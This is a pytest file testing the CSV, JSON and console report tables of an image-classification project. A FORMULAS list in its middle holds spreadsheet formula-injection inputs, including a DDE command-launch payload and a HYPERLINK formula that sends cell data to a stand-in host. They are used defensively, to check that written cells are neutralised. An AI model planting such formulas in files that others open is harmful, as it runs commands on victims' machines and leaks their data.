"""Tables of a run: CSV and JSON files that survive odd names, and the table on the console."""

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from rich.console import Console
from sklearn.metrics import confusion_matrix, precision_recall_fscore_support

from imgclf.config import ModelConfig
from imgclf.errors import DataError
from imgclf.evaluation.evaluate import metrics_from_probabilities
from imgclf.models.network import build_network
from imgclf.names import unescaped
from imgclf.preprocess import Preprocess
from imgclf.report.summary import network_rows, print_metrics, print_network
from imgclf.report.tables import (
    HISTORY_COLUMNS,
    confusion_csv,
    finite,
    history_csv,
    history_json,
    metrics_json,
    per_class_csv,
    per_class_table,
    predictions_csv,
    read_confusion_csv,
    read_history_csv,
    read_predictions_csv,
    write_csv,
)

from support.fabricate import random_predictions  # isort: skip

ODD_NAMES = ["a, b", 'say "hi"', "手語 ✋", "two\r\nlines", "lone\rreturn", "[red]", "$x^"]


def matrix_of(targets: Any, predictions: Any, num_classes: int) -> Any:
    return confusion_matrix(targets, predictions, labels=range(num_classes))


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return [[unescaped(cell) for cell in row] for row in csv.reader(file)]


# Metrics


def test_per_class_csv_ends_with_accuracy_and_the_averages(tmp_path: Path) -> None:
    probabilities, targets = random_predictions(300, 7, missing=(4,))
    predictions = probabilities.argmax(axis=1)
    per_class_csv(tmp_path / "a.csv", ODD_NAMES, matrix_of(targets, predictions, 7))
    header, *rows = read_csv(tmp_path / "a.csv")
    assert header == ["class", "precision", "recall", "f1", "support"]
    assert [row[0] for row in rows] == [*ODD_NAMES, "accuracy", "macro avg", "weighted avg"]
    correct = f"{(targets == predictions).mean():.6f}"
    assert rows[-3] == ["accuracy", "", "", correct, "300"], "as in scikit-learn's classification_report"
    assert rows[4] == ["lone\rreturn", "0.000000", "0.000000", "0.000000", "0"]
    for row, average in ((rows[-2], "macro"), (rows[-1], "weighted")):
        expected = precision_recall_fscore_support(targets, predictions, average=average)[:3]
        assert [float(cell) for cell in row[1:4]] == pytest.approx(expected, abs=1e-6)
        assert row[4] == "300"
    assert float(rows[-2][3]) == pytest.approx(
        metrics_from_probabilities(probabilities, targets, 0)[0]["macro_f1"], abs=1e-6
    )


def test_per_class_table_shows_names_as_they_are() -> None:
    console = Console(file=io.StringIO(), width=80)
    console.print(per_class_table(["[red]", "rock"], np.array([[3, 1], [0, 4]])))
    text = console.file.getvalue()
    assert "[red]" in text and "0.750" in text and "weighted avg" in text
    (accuracy,) = [line for line in text.splitlines() if "accuracy" in line]
    assert accuracy.replace("│", " ").split() == ["accuracy", "0.875", "8"]


def test_confusion_csv_has_a_row_per_true_and_a_column_per_predicted_class(tmp_path: Path) -> None:
    matrix = np.arange(49).reshape(7, 7)
    confusion_csv(tmp_path / "c.csv", ODD_NAMES, matrix)
    header, *rows = read_csv(tmp_path / "c.csv")
    assert header == ["true \\ predicted", *ODD_NAMES] and [row[0] for row in rows] == ODD_NAMES
    np.testing.assert_array_equal([[int(cell) for cell in row[1:]] for row in rows], matrix)


def test_console_and_page_have_no_top5_of_five_classes(capsys: pytest.CaptureFixture[str]) -> None:
    probabilities, targets = random_predictions(50, 5)
    print_metrics({"test": metrics_from_probabilities(probabilities, targets, 0.5)[0]})
    assert "top-5" not in capsys.readouterr().out
    probabilities, targets = random_predictions(50, 6)
    print_metrics({"test": metrics_from_probabilities(probabilities, targets, 0.5)[0]})
    assert "top-5" in capsys.readouterr().out


def test_metrics_json_is_strict(tmp_path: Path) -> None:
    metrics = metrics_from_probabilities(np.array([[0.9, 0.1]]), np.array([0]), math.nan)[0]
    metrics_json(tmp_path / "m.json", {"test": metrics, "val": {**metrics, "loss": np.float32(0.5)}})
    text = (tmp_path / "m.json").read_text(encoding="utf-8")
    loaded = json.loads(text, parse_constant=pytest.fail)
    assert loaded["test"] == {**metrics, "loss": None} and loaded["val"]["loss"] == 0.5


def test_finite_reaches_every_depth_and_keeps_other_values() -> None:
    value = {"a": [1, (math.nan, np.float32(0.5))], "b": {"c": math.inf, "d": "nan"}, "e": True, "f": np.int64(3)}
    assert finite(value) == {"a": [1, [None, 0.5]], "b": {"c": None, "d": "nan"}, "e": True, "f": 3}


# Predictions


def test_predictions_csv_survives_odd_names(tmp_path: Path) -> None:
    probabilities, targets = random_predictions(5, 7)
    files = ["a.png", Path("x, y") / "b.png", 'c".png', "new\nline.png", "bytes\udcff.png"]
    predictions_csv(tmp_path / "p.csv", files, targets, probabilities, ODD_NAMES)
    header, *rows = read_csv(tmp_path / "p.csv")
    assert header == ["file", "true", "predicted", *(f"p({name})" for name in ODD_NAMES)]
    assert [row[0] for row in rows] == list(map(str, files))
    assert (
        r"new\x0aline.png," in (tmp_path / "p.csv").read_text()
        and r"bytes\xff.png," in (tmp_path / "p.csv").read_text()
    )
    assert [row[1] for row in rows] == [ODD_NAMES[target] for target in targets]
    assert [row[2] for row in rows] == [ODD_NAMES[best] for best in probabilities.argmax(axis=1)]
    written = np.array([[float(cell) for cell in row[3:]] for row in rows])
    np.testing.assert_allclose(written, probabilities, rtol=1e-6)
    np.testing.assert_allclose(written.sum(axis=1), 1, atol=1e-5)
    assert (tmp_path / "p.csv").read_bytes().endswith(b"\n") and (tmp_path / "p.csv").read_bytes().count(b"\n") == 6


def test_predictions_csv_without_targets(tmp_path: Path) -> None:
    probabilities, targets = random_predictions(2, 3)
    predictions_csv(tmp_path / "p.csv", ["a", "b"], None, probabilities, ["x", "y", "z"])
    assert [row[1] for row in read_csv(tmp_path / "p.csv")] == ["true", "", ""]
    assert b"\r" not in (tmp_path / "p.csv").read_bytes()
    predictions_csv(tmp_path / "none.csv", [], None, np.zeros((0, 3)), ["x", "y", "z"])
    assert read_csv(tmp_path / "none.csv") == [["file", "true", "predicted", "p(x)", "p(y)", "p(z)"]]
    with pytest.raises(ValueError, match=r"expected 0\.\.2"):
        predictions_csv(tmp_path / "p.csv", ["a", "b"], targets * 0 - 1, probabilities, ["x", "y", "z"])
    with pytest.raises(ValueError, match=r"\[3 files, 3 classes\]"):
        predictions_csv(tmp_path / "p.csv", ["a", "b", "c"], None, probabilities, ["x", "y", "z"])


FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://x/?"&A1,"a")',
    "'=1",
    "''=1",
    "\uff1d1+1",
    "-a.png",
    "-1_000",
]
PLAIN = ["-1", "+5.5e-3", "-", "'quoted'", "a=b", "true", "file", "predicted", "p(x)", "1-2", "-inf"]


@pytest.mark.trust(
    "names that a spreadsheet runs as formulas, in the CSVs of a run", "a formula, or another name read back"
)
@pytest.mark.parametrize("name", [*FORMULAS, *PLAIN])
def test_no_cell_is_a_formula_and_names_are_read_back(tmp_path: Path, name: str) -> None:
    probabilities, targets = random_predictions(4, 2)
    classes, files = [name, "other"], [name, "a.png", f"{name}/b.png", "c.png"]
    predictions_csv(tmp_path / "p.csv", files, targets, probabilities, classes)
    confusion_csv(tmp_path / "c.csv", classes, np.array([[1, 2], [3, 4]]))
    per_class_csv(tmp_path / "k.csv", classes, np.array([[1, 2], [3, 4]]))
    for table in ("p.csv", "c.csv", "k.csv"):
        with (tmp_path / table).open(encoding="utf-8", newline="") as file:
            written = [cell for row in csv.reader(file) for cell in row]
        for cell in (cell for cell in written if cell not in PLAIN):
            assert cell[:1] not in tuple("=+@-\t\r\n\uff1d"), f"{table}: {cell!r}"
    known, rows = read_predictions_csv(tmp_path / "p.csv")
    assert known == classes and [row[0] for row in rows] == files
    assert [row[1] for row in rows] == [classes[target] for target in targets]
    assert [row[2] for row in rows] == [classes[best] for best in probabilities.argmax(axis=1)]
    known, counts = read_confusion_csv(tmp_path / "c.csv")
    assert known == classes and counts.tolist() == [[1, 2], [3, 4]]


def test_numbers_stay_numbers_in_every_cell(tmp_path: Path) -> None:
    write_csv(
        tmp_path / "n.csv", ["a"], [[-1], [-0.5], [np.float32(-2)], ["-1.5"], ["-1e-07"], ["-inf"], ["-"], [None]]
    )
    assert [row[0] for row in read_csv(tmp_path / "n.csv")[1:]] == [
        "-1",
        "-0.5",
        "-2.0",
        "-1.5",
        "-1e-07",
        "-inf",
        "-",
        "",
    ]


def test_predictions_of_an_earlier_version_are_read_by_position(tmp_path: Path) -> None:
    (tmp_path / "p.csv").write_text("file,true,predicted,file,true\na.png,true,file,0.7,0.3\n")
    assert read_predictions_csv(tmp_path / "p.csv") == (["file", "true"], [["a.png", "true", "file", "0.7", "0.3"]])


@pytest.mark.parametrize(
    "content", ["", "a,b,c\n", "file,true,predicted,p(a)\nx,a,a\n", "file,predicted,p(a)\nx,a,1\n"]
)
def test_reading_another_file_as_predictions_raises_data_error(tmp_path: Path, content: str) -> None:
    (tmp_path / "p.csv").write_text(content)
    with pytest.raises(DataError, match=r"p\.csv: can't be read"):
        read_predictions_csv(tmp_path / "p.csv")


# History


def test_history_round_trip(tmp_path: Path) -> None:
    rows = [{"epoch": 1, "train_loss": 0.1 + 0.2, "lr": np.float64(1e-7)}, {"epoch": np.int64(2), "val_loss": math.nan}]
    history_csv(tmp_path / "h.csv", rows)
    lines = (tmp_path / "h.csv").read_bytes().split(b"\n")
    assert lines[0] == b"epoch,train_loss,train_accuracy,val_loss,val_accuracy,lr,seconds"
    assert lines[1:] == [b"1,0.30000000000000004,,,,1e-07,", b"2,,,nan,,,", b""]
    first, second = read_history_csv(tmp_path / "h.csv")
    assert first == dict.fromkeys(HISTORY_COLUMNS) | {"epoch": 1, "train_loss": 0.1 + 0.2, "lr": 1e-7}
    assert second["epoch"] == 2 and math.isnan(second["val_loss"])
    history_json(tmp_path / "h.json", rows)
    loaded = json.loads((tmp_path / "h.json").read_text(encoding="utf-8"), parse_constant=pytest.fail)
    assert loaded == [first, second | {"val_loss": None}]
    history_csv(tmp_path / "empty.csv", [])
    assert read_history_csv(tmp_path / "empty.csv") == []


def test_unknown_history_column_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="train_acc"):
        history_csv(tmp_path / "h.csv", [{"epoch": 1, "train_acc": 0.5}])


@pytest.mark.parametrize(
    "content", [b"", b"a,b\n1,2\n", b"\xff\xfe", None, ",".join(HISTORY_COLUMNS).encode() + b"\nx"]
)
def test_reading_another_file_as_history_raises_data_error(tmp_path: Path, content: bytes | None) -> None:
    if content is not None:
        (tmp_path / "h.csv").write_bytes(content)
    with pytest.raises(DataError, match=r"h\.csv can't be read as a history"):
        read_history_csv(tmp_path / "h.csv")


def test_csv_quotes_what_a_reader_would_split(tmp_path: Path) -> None:
    rows: list[list[object]] = [["a,b", 1.5], ["lone\rreturn", None], ["bytes\udcff", ""]]
    write_csv(tmp_path / "folder" / "t.csv", ["name", "value"], rows)
    assert (tmp_path / "folder" / "t.csv").read_bytes().startswith(b'name,value\n"a,b",1.5\nlone\\x0dreturn,\n')
    assert read_csv(tmp_path / "folder" / "t.csv")[1:] == [["a,b", "1.5"], ["lone\rreturn", ""], ["bytes\udcff", ""]]


@pytest.mark.parametrize("backbone", ["mobilenetv2_100", "vit_tiny_patch16_224"])
def test_the_table_of_a_network_fits_eighty_columns(
    backbone: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    network = build_network(ModelConfig.from_dict({"backbone": backbone, "freeze": "all"}), 53, 3, 224)
    preprocess = Preprocess(size=224, mean=(0.5,) * 3, std=(0.5,) * 3)
    print_network(network, preprocess)
    lines = capsys.readouterr().out.splitlines()
    assert max(len(line) for line in lines) <= 80 and "…" not in "".join(lines)
    header, *rows = network_rows(network, preprocess)
    assert header == ["part", "kind", "output", "trainable", "frozen"]
    for row in rows:
        assert any(all(cell in line for cell in row) for line in lines), "the console shows the rows of the page"
